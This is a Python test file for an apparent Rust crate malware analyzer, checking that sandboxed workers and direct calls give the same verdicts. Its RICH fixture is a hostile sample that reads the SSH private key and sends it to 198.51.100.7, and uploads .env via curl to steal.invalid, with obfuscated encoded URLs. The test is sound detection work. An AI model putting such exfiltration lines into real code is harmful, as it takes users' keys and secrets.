from __future__ import annotations

import hashlib
import io
import subprocess
from collections.abc import Callable
from dataclasses import replace

import pytest

from analyzer.model import Context, CrateSource, Verdict
from analyzer.pipeline import analyze
from analyzer.rules.ruleset import load_ruleset
from analyzer.worker.launch import command
from analyzer.worker.pool import Pool
from analyzer.worker.protocol import write_request

MakeCrate = Callable[..., CrateSource]

RICH = r"""
use std::process::Command as Run;
mod missing;
#[cfg(windows)]
const HOST: &str = concat!("http://", "198.51.100.7", "/x");
fn main() {
    if std::env::var("CI").is_ok() { return; }
    let key = std::fs::read(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap())).unwrap();
    let host = "aHR0cDovLzE5OC41MS4xMDAuNy9zdGVhbC9hbGwvb2YvaXQ=";
    let hex = "687474703a2f2f3139382e35312e3130302e372f737465616c2f616c6c";
    Run::new("sh").arg("-c").arg("curl -F f=@.env http://steal.invalid").spawn();
    std::net::TcpStream::connect("198.51.100.7:443").unwrap().write_all(&key);
    println!("cargo:rustc-link-lib=static={}", host);
    macro_rules! m { ($e:expr) => { println!("{}", $e) } }
    let odd = "é\u{202e}\x41 'xn--'";
    let = ;
}
"""


@pytest.fixture
def crates(make_crate: MakeCrate) -> list[CrateSource]:
    good = make_crate("small")
    odd = make_crate("rich", RICH)
    junk = replace(good, data=b"junk", sha256=hashlib.sha256(b"junk").hexdigest())
    cut = good.data[:-20]
    torn = replace(good, data=cut, sha256=hashlib.sha256(cut).hexdigest())
    return [good, odd, junk, torn]


def test_confined_worker_and_plain_call_give_equal_reports(crates: list[CrateSource]) -> None:
    ruleset = load_ruleset()
    expected = [analyze(one, ruleset=ruleset) for one in crates]
    with Pool(2) as pool:
        assert list(pool.analyze_many(crates)) == expected
    assert expected[1].verdict is Verdict.BLOCK


def test_analysis_imports_nothing_after_the_worker_is_confined(crates: list[CrateSource]) -> None:
    """A late import fails in a confined worker, on systems without confinement it would not."""
    program = """
from analyzer.worker import serve
from analyzer.worker.protocol import read_request
before = set(sys.modules)
ruleset = serve.load_ruleset()
serve.confine = lambda limits: None
while (request := read_request(sys.stdin.buffer)) is not None:
    serve.analyze(request[0], ruleset=ruleset, context=request[1])
print(*sorted(set(sys.modules) - before))
"""
    stream = io.BytesIO()
    for one in crates:
        write_request(stream, one, Context())
    done = subprocess.run(
        command(program), input=stream.getvalue(), capture_output=True, check=True
    )
    assert done.stdout.split() == []
